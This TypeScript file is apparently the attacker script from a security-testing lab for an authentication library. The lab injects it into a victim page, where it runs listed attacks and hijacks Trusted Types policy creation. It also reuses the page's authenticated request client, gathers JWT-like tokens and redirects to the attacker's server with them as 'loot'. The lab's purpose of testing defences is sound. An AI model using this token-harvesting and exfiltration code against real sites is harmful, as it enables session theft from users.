/**
 * The attacker's script. The lab puts it into a victim's page before the page's own scripts, which is the best that an
 * attacker can hope for; it tries one attack, and carries to the attacker's server what it found.
 *
 * Nothing here decides whether an attack has succeeded: the attacker's server does, by using what it was brought.
 */
import { createAuthClient } from 'symbolon';
import { attacks, tools, type Attack, type Tools } from '../../attacks/index.js';
import { type Credentials, signIn } from './person.ts';

/** What the lab's server tells the script. */
interface Target {
  readonly mode: 'attack' | 'chain' | 'sign-in';
  readonly victim: string;
  readonly attack?: string;
  readonly credentials: Credentials;
  /** Where to go with what was found. */
  readonly home: string;
  /** An image of the page's own server, by which the lab learns of the chain's steps. */
  readonly seen?: string;
}

/** Longer than anything in an attack may take: what has not ended by then has failed, and is not safe. */
const PATIENCE = 30_000;
/** So that who looks at the window sees the page before it is left. */
const A_LOOK = 2500;
/** What fits into an address, with room to spare. */
const MAX_CARRIED = 20_000;
const TOKEN = /eyJ[\w-]+\.[\w-]+\.[\w-]+/g;

const { JSON, setTimeout, encodeURIComponent } = window;
const { stringify } = JSON;
const pause = (milliseconds: number) => new Promise<void>((resolve) => setTimeout(resolve, milliseconds));

const own = self as { planted?: Target };
const target = own.planted;
delete own.planted;
const page = document.documentElement.dataset;
// Only as a script of the page, and once: attacks load every script again, and pages show every comment again.
if (target && document.currentScript && !page['planted']) {
  page['planted'] = 'yes';
  start(target);
}

async function start(target: Target): Promise<void> {
  const kit = tools(target);
  const plan = target.mode === 'sign-in' ? [] : attacksOf(target);
  // The guided chain begins with somebody who is signed out.
  if (target.mode === 'sign-in' && target.seen) localStorage.removeItem('session');
  if (plan.some(({ lent }) => lent)) keepPolicies();
  for (const attack of plan) attack.plant?.(kit);
  const late = pause(PATIENCE).then(() => ({ said: 'it has not ended', finished: false }));
  const { said, finished } = await Promise.race([attempt(target, plan, kit), late]);
  if (target.mode === 'sign-in' && target.seen) return show(target.seen);
  const seen = await kit.deliver();
  if (target.mode === 'chain') await pause(A_LOOK);
  const query = `&finished=${finished}&said=${encodeURIComponent(said)}&loot=${encodeURIComponent(stringify(tokensIn(seen)))}`;
  location.replace(target.home + query);
}

/** In the guided chain, what takes a token where there is one to take. */
function attacksOf({ mode, attack }: Target): Attack[] {
  const wanted = mode === 'chain' ? ['C-001', 'C-011', 'C-014', 'C-018'] : [attack];
  return wanted.flatMap((id) => attacks.filter((attack) => attack.id === id));
}

async function attempt(target: Target, plan: Attack[], kit: Tools): Promise<{ said: string; finished: boolean }> {
  try {
    if (target.mode === 'chain' && target.seen) show(target.seen);
    if (document.readyState === 'loading') await new Promise((resolve) => document.addEventListener('DOMContentLoaded', resolve));
    if (!plan.some(({ unready }) => unready)) await signIn(target.credentials, target.mode !== 'sign-in' ? 0 : 60);
    if (plan.some(({ lent }) => lent)) kit.request = await borrow(target.victim);
    let said: unknown = 'signed in';
    for (const { run } of plan) said = await run(kit);
    return { said: inWords(said), finished: true };
  } catch (error) {
    // Attacks expect refusals, and say so; an attack that fails otherwise shows nothing.
    return { said: `it failed: ${error}`, finished: false };
  }
}

/** Something that sends requests for the person: what the page has, or a client of the attacker's own making. */
async function borrow(victim: string): Promise<NonNullable<Tools['request']>> {
  const { bank } = self as { bank?: { send: NonNullable<Tools['request']> } };
  if (bank) return bank.send;
  const auth = createAuthClient();
  await auth.ready;
  if (victim.startsWith('symbolon')) return auth.fetch as NonNullable<Tools['request']>;
  throw new Error('there is nothing to borrow');
}

/** Trusted Types give out a policy once: whoever comes first can keep it, and use it again. */
function keepPolicies(): void {
  const { trustedTypes } = self as { trustedTypes?: { createPolicy(name: string, rules: object): object } };
  if (!trustedTypes) return;
  const create = trustedTypes.createPolicy.bind(trustedTypes);
  const kept = new Map<string, object>();
  trustedTypes.createPolicy = (name, rules) => {
    const policy = kept.get(name) ?? create(name, rules);
    kept.set(name, policy);
    return policy;
  };
}

function show(image: string): void {
  new Image().src = image;
}

/** What looks like a token, by where it was seen. */
function tokensIn(seen: Record<string, string[]>): Record<string, string[]> {
  const found: Record<string, string[]> = {};
  let size = 0;
  for (const [place, texts] of Object.entries(seen)) {
    const tokens = [...new Set(texts.flatMap((text) => text.match(TOKEN) ?? []))].slice(0, 2);
    size += place.length + tokens.join().length;
    if (tokens.length > 0 && size < MAX_CARRIED) found[place] = tokens;
  }
  return found;
}

/** What an attack says of itself, short. */
function inWords(said: unknown): string {
  if (said === null || typeof said !== 'object') return String(said);
  if (Array.isArray(said)) return said.map(String).join(' ');
  const entries = Object.entries(said);
  if (entries.length < 4) return entries.filter(([, value]) => typeof value !== 'object').map((entry) => entry.join(': ')).join(', ');
  const worked = entries.filter(([, outcome]) => ['done', 'loaded', 'read', 200].includes(outcome as string));
  return `${worked.length} of ${entries.length} tries got through, none with a token`;
}
